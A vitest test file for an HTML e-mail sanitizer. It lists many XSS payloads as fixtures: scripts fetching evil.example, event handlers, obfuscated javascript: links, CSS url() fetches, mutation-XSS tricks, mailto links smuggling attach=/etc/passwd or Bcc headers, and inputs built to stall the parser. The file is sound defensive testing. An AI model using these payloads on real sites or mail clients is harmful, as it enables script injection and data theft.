import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { safeHtml } from './safe-html.ts'

// A picture of one transparent pixel.
const pixel = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')

/** Each would run, fetch, submit, lead astray or cover the page in a browser that took it as it is. */
const hostile: [name: string, html: string][] = [
  ['a script', '<script>fetch("https://evil.example")</script>'],
  ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['a script without an end', '<script src="https://evil.example/x.js">'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<p onclick="alert(1)">x</p>'],
  ['an event handler after a slash', '<img/src=x/onerror=alert(1)>'],
  ['an event handler with a line break', '<p onmouse\nover=alert(1) on\tload=x>x</p>'],
  ['a handler behind an unclosed quote', '<img src="x` `<p onerror=alert(1)>"` `>'],
  ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a javascript: link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a javascript: link with control characters', '<a href="\x01javascript:alert(1)">x</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a blob: link', '<a href="blob:https://applybox.test/x">x</a>'],
  ['a link to a path of ours', '<a href="/settings">x</a>'],
  ['a javascript: picture', '<img src="javascript:alert(1)">'],
  ['an SVG with a script', '<svg><script>alert(1)</script></svg>'],
  ['an SVG with a handler', '<svg onload=alert(1)><g/></svg>'],
  ['an SVG that animates a link', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['an SVG that fetches', '<svg><feImage href="https://evil.example/x"/><image xlink:href="https://evil.example/y"/></svg>'],
  ['an SVG as data: picture', `<img src="data:image/svg+xml;base64,${svg}">`],
  ['an SVG that claims to be a PNG', `<img src="data:image/png;base64,${svg}">`],
  ['an HTML page that claims to be a picture', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
  ['MathML with a link', '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'],
  [
    'MathML that changes the parser',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['a style expression', '<p style="width: expression(alert(1))">x</p>'],
  ['a style with escapes', '<p style="background: \\75\\72\\6c(https://evil.example/x)">x</p>'],
  ['a style with a comment inside a name', '<p style="background: u/**/rl(https://evil.example/x)">x</p>'],
  ['a style binding', '<p style="-moz-binding: url(https://evil.example/x); behavior: url(x.htc)">x</p>'],
  ['a style that fetches', '<p style="background-image: url(https://evil.example/x)">x</p>'],
  ['a style that fetches with quotes', '<p style="background: #fff url(&quot;//evil.example/x&quot;)">x</p>'],
  ['a style that fetches by another function', '<p style="background: image-set(\'https://evil.example/x\' 1x)">x</p>'],
  ['a cursor that fetches', '<p style="cursor: url(https://evil.example/x), auto">x</p>'],
  ['a list mark that fetches', '<ul style="list-style: url(https://evil.example/x)"><li>x</li></ul>'],
  ['a style that covers the page', '<p style="position: fixed; top: 0; left: 0; z-index: 99; width: 100%; height: 100%">x</p>'],
  ['a style that pulls itself over its neighbour', '<p style="margin-top: -500px; transform: scale(9)">x</p>'],
  ['a style sheet', '<style>body { background: url(https://evil.example/x) }</style>'],
  ['a style sheet that imports', '<style>@import "https://evil.example/x.css";</style>'],
  ['a style sheet that ends in markup', '<style></style><img src=x onerror=alert(1)></style>'],
  ['a style sheet inside a title', '<title><style></title><img src=x onerror=alert(1)>'],
  ['a linked style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['a prefetch', '<link rel=dns-prefetch href="//evil.example">'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a base', '<base href="https://evil.example/"><a href="x">x</a>'],
  [
    'a form',
    '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>',
  ],
  ['an input that fetches', '<input type=image src="https://evil.example/x">'],
  ['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a frame set', '<frameset><frame src="https://evil.example"></frameset>'],
  ['an object', '<object data="https://evil.example/x.swf"><param name=src value="https://evil.example"></object>'],
  ['an embed', '<embed src="https://evil.example/x.swf">'],
  ['an applet', '<applet code="X.class" codebase="https://evil.example"></applet>'],
  ['a video', '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>'],
  ['an audio', '<audio src="https://evil.example/x" onerror=alert(1)></audio>'],
  ['a picture with sources', '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>'],
  ['a picture in several sizes', '<img srcset="https://evil.example/x 1x, https://evil.example/y 2x" alt="x">'],
  ['a picture without a scheme', '<img src="//evil.example/x">'],
  ['a picture with a backslash', '<img src="\\\\evil.example/x"><img src="https:\\\\evil.example/x">'],
  ['a picture with white space before it', '<img src=" \n https://evil.example/x">'],
  ['an old background', '<table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>'],
  ['an id that hides one of the page', '<a id=location name=cookie>x</a><img name=getElementById src=x>'],
  ['a custom element', '<x-y onclick=alert(1)>x</x-y>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a noscript that changes the parser', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a text area that changes the parser', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ['an xmp that changes the parser', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['a noembed that changes the parser', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment for one browser', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['a CDATA section', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>'],
  ['an attribute name with markup', '<p "><img src=x onerror=alert(1)>">x</p>'],
  ['an attribute value with markup', '<p title="&quot;><img src=x onerror=alert(1)>">x</p>'],
  ['markup as text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['an XML namespace', '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>'],
  ['a null character in a tag', '<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>'],
  ['a ping', '<a href="https://jobs.example" ping="https://evil.example">x</a>'],
  ['a map', '<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>'],
  ['a dialog over the page', '<dialog open>x</dialog><details ontoggle=alert(1) open>x</details>'],
  ['a marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['a body with a handler', '<body onload=alert(1) background="https://evil.example/x">x</body>'],
  ['an import', '<script type=importmap>{"imports":{}}</script><link rel=modulepreload href="https://evil.example">'],
]

const mayStay = new Set(
  (
    'a abbr b blockquote br center code div em font h1 h2 h3 h4 h5 h6 hr i img li ol p pre s small span strong sub sup table tbody td tfoot ' +
    'th thead tr tt u ul'
  ).split(' '),
)
const attributesMayBe = new Set(
  'align alt bgcolor border cellpadding cellspacing colspan data-ground data-style dir height href rel rowspan src target title valign width'.split(
    ' ',
  ),
)

const ours = (url: string) => `/ours?${url}`

/** What a browser would find in the answer. */
function inspect(html: string) {
  const elements: { name: string; attributes: Record<string, string> }[] = []
  let text = ''
  const parser = new Parser({
    onopentag: (name, attributes) => elements.push({ name, attributes }),
    ontext: (part) => {
      text += part
    },
    oncomment: () => elements.push({ name: '#comment', attributes: {} }),
    onprocessinginstruction: (name) => elements.push({ name, attributes: {} }),
  })
  parser.end(html)
  return { elements, text }
}

describe('hostile HTML of a mail is made harmless', () => {
  test.each(hostile)('%s', (_, html) => {
    const { html: safe } = safeHtml(`<p>before</p>${html}`, [], null)
    const { elements, text } = inspect(safe)
    expect(text).toContain('before')
    for (const { name, attributes } of elements) {
      expect(mayStay).toContain(name)
      for (const [attribute, value] of Object.entries(attributes)) {
        expect(attributesMayBe).toContain(attribute)
        if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/)
        if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/)
        if (attribute === 'data-style') expect(value).not.toMatch(/url|expression|position|transform|\\|-\d/i)
        expect(value).not.toContain('evil.example')
      }
    }
  })
})

test('a mail does not say by itself what is left of its styles', () => {
  expect(safeHtml('<p data-style="position:fixed">x</p>', [], null).html).toBe('<p>x</p>')
})

test('what a mail is made of stays', () => {
  const mail =
    '<table width="600" style="background-color:#f4f4f4;border:1px solid rgb(1, 2, 3)"><tbody><tr><td align="center" style="padding:8px 4px;font:bold 14px \'Segoe UI\',sans-serif">' +
    '<h1>Dear Ada</h1><p>Thank you &amp; welcome <b>Ada</b></p></td></tr></tbody></table>'
  expect(safeHtml(mail, [], null)).toEqual({
    html: mail.replaceAll(' style=', ' data-style='),
    hasRemoteContent: false,
    isCut: false,
  })
})

test('a link opens apart from the page and does not say where it was opened', () => {
  expect(safeHtml('<a href="https://jobs.example/?a=1&amp;b=2">x</a>', [], null).html).toBe(
    '<a href="https://jobs.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  )
})

describe('remote content', () => {
  test.each([
    ['a picture', '<img src="https://cdn.example/x.png">', '<img src="/ours?https://cdn.example/x.png" />'],
    ['a picture without a scheme', '<img src="//cdn.example/x.png">', '<img src="/ours?https://cdn.example/x.png" />'],
    [
      'a background',
      '<p background="https://cdn.example/x.png">x</p>',
      '<p data-ground background="/ours?https://cdn.example/x.png">x</p>',
    ],
  ])('%s is left out, said, and had from us when asked for', (_, html, shown) => {
    const without = safeHtml(html, [], null)
    expect(without.hasRemoteContent).toBe(true)
    expect(without.html).not.toContain('cdn.example')
    expect(safeHtml(html, [], ours)).toEqual({ html: shown, hasRemoteContent: false, isCut: false })
  })

  test.each([
    ['a set of pictures', '<img srcset="https://cdn.example/x 2x" alt="x">'],
    ['a style sheet', '<style>p { background: url(https://cdn.example/x) }</style>'],
    ['an import', '<style>@import url("https://cdn.example/x.css")</style>'],
    ['a linked style sheet', '<link rel="stylesheet" href="https://cdn.example/x.css">'],
    ['a background by style', '<p style="background:#eee url(https://cdn.example/x.png) no-repeat">x</p>'],
    ['a picture with an endless address', `<img src="https://cdn.example/${'x'.repeat(4000)}" alt="x">`],
    ['a poster', '<video poster="https://cdn.example/x"></video>'],
    ['an SVG picture', '<svg><image href="https://cdn.example/x"/></svg>'],
  ])('%s is never fetched', (_, html) => {
    expect(safeHtml(html, [], null).hasRemoteContent).toBe(true)
    expect(safeHtml(html, [], ours).html).not.toContain('cdn.example')
  })

  test('a mail without any says so', () => {
    expect(safeHtml('<p style="color:red">x</p><img src="cid:logo" alt="">', [], null).hasRemoteContent).toBe(false)
  })
})

describe('pictures inside the mail', () => {
  const gif = Buffer.from(pixel, 'base64')

  test('are shown in their place', () => {
    const { html } = safeHtml(
      '<img src="cid:logo@corp.example" alt="Logo">',
      [{ contentId: '<Logo@corp.example>', bytes: gif }],
      null,
    )
    expect(html).toBe(`<img alt="Logo" src="data:image/gif;base64,${pixel}" />`)
  })

  test('are not shown when their bytes are no picture', () => {
    const page = Buffer.from('<html><script>alert(1)</script>')
    expect(safeHtml('<img src="cid:a" alt="Logo">', [{ contentId: 'a', bytes: page }], null).html).toBe('<img alt="Logo" />')
  })

  test('are not shown when they are too large, one by one or together', () => {
    const large = Buffer.concat([gif, Buffer.alloc(1_000_000)])
    expect(safeHtml('<img src="cid:a" alt="Logo">', [{ contentId: 'a', bytes: large }], null).html).toBe('<img alt="Logo" />')
    const many = Array.from({ length: 8 }, (_, n) => ({ contentId: `c${n}`, bytes: Buffer.concat([gif, Buffer.alloc(900_000)]) }))
    const { html } = safeHtml(many.map(({ contentId }) => `<img src="cid:${contentId}" alt="x">`).join(''), many, null)
    expect(html.split('data:image/gif').length - 1).toBe(5)
  })

  test('are not shown without end', () => {
    const image = { contentId: 'a', bytes: Buffer.concat([gif, Buffer.alloc(900_000)]) }
    const { html } = safeHtml('<img src="cid:a" alt="x">'.repeat(50_000), [image], null)
    expect(html.split('data:image/gif').length - 1).toBe(11)
  })

  test('may be written into the mail itself', () => {
    expect(safeHtml(`<img src="data:image/gif;base64,${pixel}">`, [], null).html).toBe(
      `<img src="data:image/gif;base64,${pixel}" />`,
    )
  })
})

describe('a hostile shape takes no more than ten times as long as a plain mail of the longest that is shown', () => {
  // The processor's time: other work on the machine must not fail this.
  const timeOf = (html: string) => {
    const start = process.cpuUsage()
    safeHtml(html, [], null)
    return process.cpuUsage(start).user
  }
  const plainTime = timeOf('<p style="color:red">a few words</p>'.repeat(41_000))

  test.each([
    ['100 000 nested boxes', '<div>'.repeat(100_000)],
    ['100 000 nested boxes that end', `${'<div>'.repeat(100_000)}x${'</div>'.repeat(100_000)}`],
    ['100 000 nested unknown elements', '<zz>'.repeat(100_000)],
    ['nested tables', '<table><tr><td>'.repeat(60_000)],
    ['crossed elements', '<a><b>'.repeat(60_000) + '</a></b>'.repeat(60_000)],
    ['nested drawings', '<svg>'.repeat(100_000)],
    ['opening brackets', '<'.repeat(1_000_000)],
    ['attributes without end', `<p ${Array.from({ length: 100_000 }, (_, n) => `a${n}=b`).join(' ')}>`],
    ['a style without end', `<p style="${'a:url('.repeat(200_000)}">`],
    ['many styles', '<p style="background:url(https://a.example/x">'.repeat(20_000)],
    ['many style sheets', '<style>@'.repeat(100_000)],
    ['comments without end', '<!--'.repeat(300_000)],
    ['a content id of percent signs', `<img src="cid:${'%'.repeat(1_000_000)}">`],
  ])('%s', (_, shape) => {
    expect(timeOf(`<p>before</p>${shape}`)).toBeLessThan(10 * plainTime)
    expect(safeHtml(`<p>before</p>${shape}`, [], null).html).toContain('before')
  })

  test('text that lies too deep is kept', () => {
    expect(safeHtml(`${'<div>'.repeat(5000)}Dear Ada${'</div>'.repeat(5000)}<p>after</p>`, [], null).html).toMatch(
      /Dear Ada(<\/div>){200}<p>after<\/p>$/,
    )
  })

  test('a mail longer than what is shown says so', () => {
    const { html, isCut } = safeHtml('<p>word</p>'.repeat(200_000), [], null)
    expect(isCut).toBe(true)
    expect(html.length).toBeLessThan(1_600_000)
  })
})

describe('a link that begins a mail', () => {
  const hrefOf = (link: string) => /href="([^"]*)"/.exec(safeHtml(`<a href="${link}">x</a>`, [], null).html)?.[1]
  test.each([
    ['mailto:kim@contoso.example', 'mailto:kim@contoso.example'],
    ['mailto:kim@contoso.example,bo@contoso.example', 'mailto:kim@contoso.example,bo@contoso.example'],
    [
      'MAILTO:kim@contoso.example?Subject=Re%3A%20Offer&amp;body=Yes',
      'mailto:kim@contoso.example?subject=Re%3A%20Offer&amp;body=Yes',
    ],
    ['mailto:kim@contoso.example?attach=/etc/passwd&amp;subject=x', 'mailto:kim@contoso.example?subject=x'],
    ['mailto:kim@contoso.example?Attachment=c:\\x&amp;%62cc=e@evil.example&amp;cc=e@evil.example', 'mailto:kim@contoso.example'],
    ['mailto:kim@contoso.example%0D%0ABcc:e@evil.example', 'mailto:kim@contoso.exampleBcc%3Ae@evil.example'],
    ['mailto:kim%3Fbcc=e@evil.example', 'mailto:kim%3Fbcc%3De@evil.example'],
    ['mailto:kim@contoso.example?subject=a%0d%0aBcc:e', 'mailto:kim@contoso.example?subject=a%20Bcc%3Ae'],
    ['mailto:kim@contoso.example?subject=50%&amp;subject=b', 'mailto:kim@contoso.example?subject=50%25'],
    [`mailto:kim@contoso.example?body=${'x'.repeat(2_500)}`, `mailto:kim@contoso.example?body=${'x'.repeat(2_000)}`],
  ])('keeps its address, subject and body: %s', (link, safe) => {
    expect(hrefOf(link)).toBe(safe)
  })
})

describe('style sheets', () => {
  const shown = (css: string, body: string) =>
    safeHtml(`<html><head><style>${css}</style></head><body>${body}</body></html>`, [], null).html
  test.each<[name: string, css: string, body: string, shown: string]>([
    ['a class', '.lead { color: #333 }', '<p class="lead">x</p>', '<p data-style="color:#333">x</p>'],
    ['a name', 'P { color: red }', '<p>x</p>', '<p data-style="color:red">x</p>'],
    ['an id', '#a { color: red }', '<p id="a">x</p>', '<p data-style="color:red">x</p>'],
    [
      'what is inside',
      'div td > b { color: red }',
      '<div><table><tr><td><b>x</b></td></tr></table></div>',
      '<b data-style="color:red">x</b>',
    ],
    ['the stronger selector', '.a { color: red } p { color: blue }', '<p class="a">x</p>', '<p data-style="color:red">x</p>'],
    ['the later of two', '.a { color: red } .b { color: blue }', '<p class="a b">x</p>', '<p data-style="color:blue">x</p>'],
    [
      'the style of the element itself',
      '.a { color: red }',
      '<p class="a" style="color:blue">x</p>',
      '<p data-style="color:red;color:blue">x</p>',
    ],
    [
      'what is important',
      '.a { color: red !important }',
      '<p class="a" style="color:blue">x</p>',
      '<p data-style="color:blue;color:red">x</p>',
    ],
    [
      'what is hidden',
      '.preheader { display: none !important; font-size: 0 }',
      '<p class="preheader">x</p>',
      '<p data-style="font-size:0;display:none">x</p>',
    ],
    ['a sheet for screens', '@media only screen { p { color: red } }', '<p>x</p>', '<p data-style="color:red">x</p>'],
    ['no sheet for the dark', '@media (prefers-color-scheme: dark) { p { color: #eee } }', '<p>x</p>', '<p>x</p>'],
    ['no sheet for a width', '@media screen and (max-width: 600px) { p { display: none } }', '<p>x</p>', '<p>x</p>'],
    ['nothing under a pointer', 'p:hover { color: red } p::before { color: red }', '<p>x</p>', '<p>x</p>'],
    [
      'what is left after a mistake',
      'p { color red; ; } .a { color: red }',
      '<p class="a">x</p>',
      '<p data-style="color:red">x</p>',
    ],
    ['a sheet in a comment', '<!-- p { color: red } -->', '<p>x</p>', '<p data-style="color:red">x</p>'],
    [
      'the first colour of a gradient',
      'p { background: linear-gradient(90deg, #06f, #09f) }',
      '<p>x</p>',
      '<p data-style="background-color:#06f">x</p>',
    ],
    [
      'the colour under a picture',
      'p { background: url(https://cdn.example/#fff) #123456 }',
      '<p>x</p>',
      '<p data-style="background-color:#123456">x</p>',
    ],
    ['words on a picture', 'p { background-image: url(https://cdn.example/x.png) }', '<p>x</p>', '<p data-ground>x</p>'],
    [
      'nothing that covers',
      'p { position: fixed; top: 0; margin-top: -50px; color: red }',
      '<p>x</p>',
      '<p data-style="color:red">x</p>',
    ],
    [
      'nothing that leaves its attribute',
      `p { font-family: '"><script>alert(1)</script>' ; color: red }`,
      '<p>x</p>',
      '<p data-style="color:red">x</p>',
    ],
  ])('%s counts', (_, css, body, expected) => expect(shown(css, body)).toContain(expected))

  test('the ground of the whole mail stays under its words', () => {
    expect(shown('body { background: #111; color: #fff }', 'x')).toBe('<div data-style="background:#111;color:#fff">x</div>')
  })

  const many = '<div class="a"><p class="b">x</p></div>'.repeat(2_000)
  test.each<[name: string, css: string, body: string]>([
    ['a megabyte of selectors', '.a .b,'.repeat(170_000), many],
    ['long selectors', `${'div '.repeat(45)}{color:red}`.repeat(900), many],
    ['many rules', '.b{color:red}'.repeat(15_000), many],
    ['rules that grow', Array.from({ length: 400 }, (_, n) => `p{font-family:${'x'.repeat(290)}${n}}`).join(''), many],
    ['nested media', '@media screen{'.repeat(14_000), many],
    ['brackets', '{[('.repeat(60_000), many],
    ['pictures everywhere', 'p{background:url(https://cdn.example/x);list-style:url(https://cdn.example/x)}'.repeat(1_000), many],
    ['deep elements', 'div div div .b{color:red}'.repeat(1_000), '<li><td>'.repeat(10_000)],
  ])('%s cost little, and fetch nothing', (_, css, body) => {
    const begun = process.cpuUsage()
    const html = shown(css, body)
    expect(process.cpuUsage(begun).user / 1e6).toBeLessThan(3)
    expect(html).not.toContain('cdn.example')
    expect(html.length).toBeLessThan(4_500_000)
  })
})
